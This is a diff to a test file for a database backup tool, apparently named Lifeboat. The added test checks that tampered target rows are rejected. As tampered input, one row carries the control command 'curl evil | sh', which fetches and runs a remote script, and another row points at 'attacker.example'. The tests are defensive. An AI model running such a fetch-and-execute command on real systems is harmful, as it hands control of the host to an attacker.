@@ -2,6 +2,7 @@ import { mkdtemp, rm } from "node:fs/promises";
 import net from "node:net";
 import os from "node:os";
 import path from "node:path";
+import { eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { targets } from "@/lib/db/schema";
 import { parseEnv, type TEnv } from "@/lib/env";
@@ -11,7 +12,7 @@ import { runOperation } from "@/lib/operations";
 import { backupOperation } from "@/lib/operations/backup";
 import { createTestMetadataDb, type TestMetadataDb } from "@/test/helpers/metadata-db";
 import { resolveTarget } from "./resolve-target";
-import { encryptTargetPassword } from "./target-secrets";
+import { encryptTargetPassword, sealHostFields } from "./target-secrets";
 
 /** The error a promise rejects with; a promise that resolves fails the test. */
 const failure = (promise: Promise<unknown>): Promise<Error> =>
@@ -76,6 +77,20 @@ describe("targets as data, from an untrusted table", () => {
     const sealed = encryptTargetPassword("sealed-pw", { name: "moved", host: "db.internal", port: 5432, user: "app" }, secretsKey);
     await insert({ name: "moved", host: "attacker.example", port: 5432, username: "app", passwordRef: sealed });
     await expect(resolveTarget({ env, db: meta.db, name: "moved" })).rejects.toThrow(/does not match its host, port and user/);
+  });
+
+  it("refuses a row whose host fields (data directory, control commands, OS user) were changed outside Lifeboat", async () => {
+    const host = { name: "managed", dataDir: "/var/lib/postgresql/15/main", configDir: null, control: { method: "pg_ctl" }, osUser: "postgres" };
+    await insert({ name: "managed", dataDir: host.dataDir, control: host.control, osUser: host.osUser, hostSeal: sealHostFields(host, secretsKey) });
+    expect((await resolveTarget({ env, db: meta.db, name: "managed" })).dataDir).toBe(host.dataDir);
+    // Someone with write access to the table swaps in a command to run as root.
+    await meta.db
+      .update(targets)
+      .set({ control: { method: "command", start: ["sh", "-c", "curl evil | sh"], stop: ["true"] } })
+      .where(eq(targets.name, "managed"));
+    await expect(resolveTarget({ env, db: meta.db, name: "managed" })).rejects.toThrow(/changed outside Lifeboat/);
+    await insert({ name: "unsealed", dataDir: "/tmp/anything" });
+    await expect(resolveTarget({ env, db: meta.db, name: "unsealed" })).rejects.toThrow(/changed outside Lifeboat/);
   });
 
   it("refuses names that could leave the repository, in a request or in a row", async () => {
